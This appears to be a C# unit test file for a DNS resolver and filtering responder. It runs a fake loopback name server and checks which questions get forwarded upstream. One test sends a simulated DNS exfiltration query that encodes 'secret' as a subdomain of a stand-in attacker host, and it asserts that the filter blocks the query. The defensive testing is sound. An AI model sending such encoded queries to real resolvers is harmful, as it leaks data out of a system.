using System.Collections.Concurrent;
using System.Net;
using System.Net.Sockets;
using Makaretu.Dns;
using Matchlock.Core.Network.Dns;

namespace Matchlock.Core.Tests.Network.Dns;

/// <summary>
/// <see cref="DnsResolvers.Upstream"/> against a fake name server on loopback, alone and behind the
/// responder: what it returns, and which questions ever reach the name server.
/// </summary>
public sealed class DnsResolversTests
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Fact]
    public async Task Upstream_returns_the_address_records_and_collapses_a_cname_chain()
    {
        await using var upstream = FakeNameServer.Start();

        var resolve = DnsResolvers.Upstream([upstream.EndPoint], TimeSpan.FromSeconds(2));

        Assert.Equal([IPAddress.Parse("198.51.100.7")], await resolve("www.example.com", AddressFamily.InterNetwork, Ct));
        Assert.Equal([IPAddress.Parse("198.51.100.8")], await resolve("alias.example.com", AddressFamily.InterNetwork, Ct));
    }

    [Fact]
    public async Task Upstream_returns_no_address_for_nxdomain_and_throws_for_servfail()
    {
        await using var upstream = FakeNameServer.Start();

        var resolve = DnsResolvers.Upstream([upstream.EndPoint], TimeSpan.FromSeconds(2));

        Assert.Empty(await resolve("nx.example.com", AddressFamily.InterNetwork, Ct));
        await Assert.ThrowsAnyAsync<Exception>(() => resolve("fail.example.com", AddressFamily.InterNetwork, Ct));
    }

    [Fact]
    public async Task Behind_the_responder_only_allowed_a_questions_ever_reach_the_name_server()
    {
        await using var upstream = FakeNameServer.Start();
        await using var server = DnsTestServer.Start(configure: o => o with { Resolve = DnsResolvers.Upstream([upstream.EndPoint], TimeSpan.FromSeconds(2)) });

        var allowed = await server.AskUdpAsync(DnsTestServer.Query("WWW.example.com", DnsType.A));
        var exfiltration = await server.AskUdpAsync(DnsTestServer.Query("c2VjcmV0.secret-data.attacker.com", DnsType.A));
        var txt = await server.AskUdpAsync(DnsTestServer.Query("c2VjcmV0.example.com", DnsType.TXT));
        var aaaa = await server.AskUdpAsync(DnsTestServer.Query("c2VjcmV0.example.com", DnsType.AAAA));

        Assert.Equal("198.51.100.7", Assert.IsType<ARecord>(Assert.Single(allowed!.Answers)).Address.ToString());
        Assert.Equal(MessageStatus.NameError, exfiltration!.Status);
        Assert.Equal(MessageStatus.Refused, txt!.Status);
        Assert.Equal(MessageStatus.NoError, aaaa!.Status);
        Assert.Equal(["www.example.com A"], upstream.Questions);
    }

    /// <summary>A name server on loopback that answers from a fixed zone and records every question.</summary>
    private sealed class FakeNameServer : IAsyncDisposable
    {
        private readonly Socket _socket;
        private readonly CancellationTokenSource _stop = new();
        private readonly Task _loop;

        private FakeNameServer(Socket socket)
        {
            _socket = socket;
            _loop = Task.Run(ServeAsync);
        }

        public IPEndPoint EndPoint => (IPEndPoint)_socket.LocalEndPoint!;

        public ConcurrentQueue<string> Questions { get; } = new();

        public static FakeNameServer Start()
        {
            var socket = new Socket(AddressFamily.InterNetwork, SocketType.Dgram, ProtocolType.Udp);
            socket.Bind(new IPEndPoint(IPAddress.Loopback, 0));
            return new FakeNameServer(socket);
        }

        private async Task ServeAsync()
        {
            var buffer = new byte[4096];
            while (!_stop.IsCancellationRequested)
            {
                var received = await _socket.ReceiveFromAsync(buffer, SocketFlags.None, new IPEndPoint(IPAddress.Any, 0), _stop.Token);
                var query = (Message)new Message().Read(buffer, 0, received.ReceivedBytes);
                var question = query.Questions.Single();
                var name = question.Name!.ToString();
                Questions.Enqueue($"{name} {question.Type}");
                var reply = query.CreateResponse();
                switch (name)
                {
                    case "nx.example.com":
                        reply.Status = MessageStatus.NameError;
                        break;
                    case "fail.example.com":
                        reply.Status = MessageStatus.ServerFailure;
                        break;
                    case "alias.example.com":
                        reply.Answers.Add(new CNAMERecord { Name = question.Name, Target = "target.example.net", TTL = TimeSpan.FromMinutes(5) });
                        reply.Answers.Add(new ARecord { Name = "target.example.net", Address = IPAddress.Parse("198.51.100.8"), TTL = TimeSpan.FromMinutes(5) });
                        break;
                    default:
                        reply.Answers.Add(new ARecord { Name = question.Name, Address = IPAddress.Parse("198.51.100.7"), TTL = TimeSpan.FromMinutes(5) });
                        break;
                }

                await _socket.SendToAsync(reply.ToByteArray(), SocketFlags.None, received.RemoteEndPoint, _stop.Token);
            }
        }

        public async ValueTask DisposeAsync()
        {
            await _stop.CancelAsync();
            _socket.Dispose();
            await _loop.ConfigureAwait(ConfigureAwaitOptions.SuppressThrowing);
            _stop.Dispose();
        }
    }
}
